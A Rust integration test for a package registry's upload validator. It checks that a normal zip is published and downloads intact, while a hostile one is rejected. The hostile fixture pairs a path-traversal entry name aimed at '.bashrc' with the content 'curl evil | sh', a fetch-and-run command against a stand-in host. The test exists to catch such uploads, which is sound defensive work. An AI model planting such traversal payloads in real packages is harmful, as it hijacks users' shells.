//! End to end on the emulator: a package uploaded through presigned URLs
//! raises S3's `ObjectCreated`, the relay delivers it to the validator as
//! Lambda would, and the version ends `published` (and downloads intact) or
//! `rejected` with the failing check.

mod support;

use std::time::{Duration, Instant};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use shared::auth::Role;
use support::Api;
use validator::testzip::{Options, Spec, build, manifest};

/// Uploads `bytes` as `name@version` in one part and completes it.
async fn upload(
    api: &Api,
    bearer: &str,
    name: &str,
    version: &str,
    bytes: &[u8],
    sha256: Option<String>,
) {
    let mut body = json!({"size": bytes.len()});
    if let Some(sha) = sha256 {
        body["sha256"] = json!(sha);
    }
    let (status, started) = api
        .call(
            "POST",
            &format!("/v1/packages/{name}/versions/{version}/uploads"),
            Some(bearer),
            Some(body),
        )
        .await;
    assert_eq!(status, 201, "{started}");
    let url = started["parts"][0]["url"].as_str().expect("url");
    let put = api
        .http
        .put(url)
        .body(bytes.to_vec())
        .send()
        .await
        .expect("PUT");
    let etag = put.headers()["etag"].to_str().expect("etag").to_owned();
    let id = started["upload_id"].as_str().expect("id");
    let (status, done) = api
        .call(
            "POST",
            &format!("/v1/uploads/{id}/complete"),
            Some(bearer),
            Some(json!({"parts": [{"part_number": 1, "etag": etag}]})),
        )
        .await;
    assert_eq!(status, 202, "{done}");
}

/// Polls the version until the validator has decided.
async fn verdict(api: &Api, bearer: &str, name: &str, version: &str) -> Value {
    let started = Instant::now();
    loop {
        let (_, v) = api
            .call(
                "GET",
                &format!("/v1/packages/{name}/versions/{version}"),
                Some(bearer),
                None,
            )
            .await;
        if v["status"] != "validating" {
            return v;
        }
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "no verdict within 30 s: {v}"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
}

#[tokio::test]
async fn uploaded_package_is_validated_published_and_hostile_one_rejected() {
    let (aws, template, stack) = support::stack("validate").await;
    let api = Api::new(support::serve(&aws, &template, &stack).await);
    let relays = devstack::relay::spawn_all(&stack, &aws).expect("relays start");
    let password = support::user(&aws, &stack, "val1", &[Role::Publisher], &[]).await;
    let bearer = api.bearer("val1", &password).await;

    let good = build(
        &[
            Spec::deflated("tool/package.json", &manifest("tool", "1.0.0")),
            Spec::stored("tool/README.md", b"# tool"),
            Spec::deflated("tool/bin/run.sh", &b"echo hello\n".repeat(100)),
        ],
        &Options::default(),
    );
    let digest: String = Sha256::digest(&good)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    upload(&api, &bearer, "tool", "1.0.0", &good, Some(digest.clone())).await;

    let mut evil_entries = vec![
        Spec::deflated("package.json", &manifest("evil", "0.1.0")),
        Spec::stored("README", b"totally fine"),
    ];
    evil_entries.push(Spec::stored("../../home/user/.bashrc", b"curl evil | sh"));
    let evil = build(&evil_entries, &Options::default());
    upload(&api, &bearer, "evil", "0.1.0", &evil, None).await;

    let published = verdict(&api, &bearer, "tool", "1.0.0").await;
    assert_eq!(published["status"], "published", "{published}");
    assert_eq!(published["sha256"], digest.as_str());
    assert_eq!(published["validation"]["status"], "passed");
    assert_eq!(published["validation"]["manifest"]["name"], "tool");
    assert_eq!(
        published["validation"]["checks"].as_array().map(Vec::len),
        Some(12)
    );
    let (status, link) = api
        .call(
            "GET",
            "/v1/packages/tool/versions/1.0.0/download",
            Some(&bearer),
            None,
        )
        .await;
    assert_eq!(status, 200, "{link}");
    let downloaded = api
        .http
        .get(link["url"].as_str().expect("url"))
        .send()
        .await
        .expect("GET")
        .bytes()
        .await
        .expect("body");
    assert!(
        downloaded.as_ref() == good.as_slice(),
        "the published object downloads intact"
    );
    let (_, pkg) = api
        .call("GET", "/v1/packages/tool", Some(&bearer), None)
        .await;
    assert_eq!(pkg["latest_version"], "1.0.0");

    let rejected = verdict(&api, &bearer, "evil", "0.1.0").await;
    assert_eq!(rejected["status"], "rejected", "{rejected}");
    let failed: Vec<&str> = rejected["validation"]["checks"]
        .as_array()
        .expect("checks")
        .iter()
        .filter(|c| c["ok"] == false)
        .map(|c| c["id"].as_str().expect("id"))
        .collect();
    assert_eq!(failed, ["zip.paths_safe"]);
    let (status, _) = api
        .call(
            "GET",
            "/v1/packages/evil/versions/0.1.0/download",
            Some(&bearer),
            None,
        )
        .await;
    assert_eq!(status, 409, "a rejected version never downloads");

    // S3 may deliver an event twice: a decided version is left as it is.
    let state = validator::State::new(&stack.env("validator"), &aws).expect("validator state");
    let object = validator::UploadedObject {
        bucket: stack.physical("PackageBucket").expect("bucket").to_owned(),
        key: "packages/tool/1.0.0/tool-1.0.0.zip".into(),
        size: None,
        version_id: None,
    };
    assert_eq!(
        validator::process(&state, &object)
            .await
            .expect("processed"),
        validator::Outcome::Ignored("not validating")
    );
    let again = verdict(&api, &bearer, "tool", "1.0.0").await;
    assert_eq!(again["status"], "published");
    for relay in relays {
        relay.abort();
    }
}
